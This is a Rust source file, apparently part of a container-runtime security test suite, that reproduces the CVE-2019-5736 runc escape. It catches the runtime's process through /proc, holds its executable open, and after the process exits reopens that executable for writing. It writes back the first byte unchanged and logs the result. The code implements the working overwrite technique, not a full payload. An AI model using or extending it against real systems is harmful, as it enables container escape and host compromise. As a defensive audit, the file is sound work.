//! The container side of the peer audit: CVE-2019-5736 as published, against a real
//! runtime. This runs as the container's process and waits. The audit then has the
//! runtime `exec` the container's `/entry`, a `#!/proc/self/exe` script: the kernel runs
//! the script's interpreter, /proc/self/exe of the runtime's init, so the runtime's
//! re-executed image runs inside the container. Seeing that process appear, this opens its
//! /proc/<pid>/exe for writing while it runs (`write-running`), holds it O_PATH, and once
//! it has exited reopens the held fd for writing and writes its first byte back
//! (`reopen-after-exit`), as the exploit overwrote runc. Report lines go to REPORT.

use rustix::fd::OwnedFd;
use rustix::fs::{Mode, OFlags};
use std::io::Write;
use std::time::{Duration, Instant};

/// How long to wait for the runtime's process to appear, and then to exit.
const WAIT: Duration = Duration::from_secs(20);

fn dev_ino(fd: &OwnedFd) -> String {
    rustix::fs::fstat(fd)
        .map(|s| format!("{}:{}", s.st_dev, s.st_ino))
        .unwrap_or_default()
}

fn errno_number<T>(r: rustix::io::Result<T>) -> i32 {
    match r {
        Ok(_) => 0,
        Err(e) => e.raw_os_error(),
    }
}

/// A process other than this one, and its image held O_PATH, as soon as one appears.
fn catch(me: &str) -> Option<(i32, OwnedFd)> {
    let start = Instant::now();
    while start.elapsed() < WAIT {
        for pid in std::fs::read_dir("/proc")
            .into_iter()
            .flatten()
            .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<i32>().ok())
            .filter(|p| *p != 1)
        {
            let exe = format!("/proc/{pid}/exe");
            let Ok(fd) =
                rustix::fs::open(exe.as_str(), OFlags::PATH | OFlags::CLOEXEC, Mode::empty())
            else {
                continue;
            };
            if dev_ino(&fd) != me {
                return Some((pid, fd));
            }
        }
        std::hint::spin_loop();
    }
    None
}

pub fn run(report: &str) -> i32 {
    let mut out = match std::fs::OpenOptions::new()
        .append(true)
        .create(true)
        .open(report)
    {
        Ok(f) => f,
        Err(e) => {
            eprintln!("sealbench: open {report}: {e}");
            return 1;
        }
    };
    let me = rustix::fs::open(
        "/proc/self/exe",
        OFlags::PATH | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map(|fd| dev_ino(&fd))
    .unwrap_or_default();
    let _ = writeln!(out, "ready");
    let Some((pid, held)) = catch(&me) else {
        let _ = writeln!(out, "caught none");
        return 0;
    };
    let _ = writeln!(out, "exe-id {}", dev_ino(&held));
    let exe = format!("/proc/{pid}/exe");
    let running = rustix::fs::open(
        exe.as_str(),
        OFlags::WRONLY | OFlags::CLOEXEC,
        Mode::empty(),
    );
    let _ = writeln!(out, "write-running {}", errno_number(running));
    let start = Instant::now();
    while std::path::Path::new(&format!("/proc/{pid}")).exists() && start.elapsed() < WAIT {
        // A zombie still has its /proc entry; its exe link is gone once it has exited.
        if rustix::fs::readlink(exe.as_str(), Vec::new()).is_err() {
            break;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let held_path = format!("/proc/self/fd/{}", rustix::fd::AsRawFd::as_raw_fd(&held));
    let reopened = reopen_patiently(&held_path);
    let line = match reopened {
        Ok(fd) => {
            let mut byte = [0u8];
            match rustix::io::pread(&fd, &mut byte, 0)
                .and_then(|_| rustix::io::pwrite(&fd, &byte, 0))
            {
                Ok(_) => format!("attack ok {}", dev_ino(&fd)),
                Err(e) => format!("attack {} write", strategies::errno_name(e)),
            }
        }
        Err(e) => format!(
            "attack {} open(/proc/self/fd/N, O_RDWR)",
            strategies::errno_name(e)
        ),
    };
    let _ = writeln!(out, "{line}");
    0
}

/// The exploit loops while the image is still executed somewhere (ETXTBSY).
fn reopen_patiently(path: &str) -> rustix::io::Result<OwnedFd> {
    let start = Instant::now();
    loop {
        match rustix::fs::open(path, OFlags::RDWR | OFlags::CLOEXEC, Mode::empty()) {
            Err(rustix::io::Errno::TXTBSY) if start.elapsed() < Duration::from_secs(3) => {
                std::thread::sleep(Duration::from_millis(2))
            }
            other => return other,
        }
    }
}
